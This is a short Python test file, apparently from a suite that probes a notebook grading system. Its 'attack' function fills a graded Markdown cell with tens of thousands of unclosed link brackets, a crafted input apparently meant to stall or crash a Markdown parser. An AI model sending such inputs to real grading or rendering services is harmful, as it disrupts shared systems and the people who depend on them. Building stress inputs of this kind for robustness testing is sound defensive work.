"""Half links without end, in Markdown.

Score: 5
"""

def cell(notebook, name):
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def attack(notebook):
    cell(notebook, "why")["source"] = "](" * 20_000 + "[" * 9_000
    return notebook
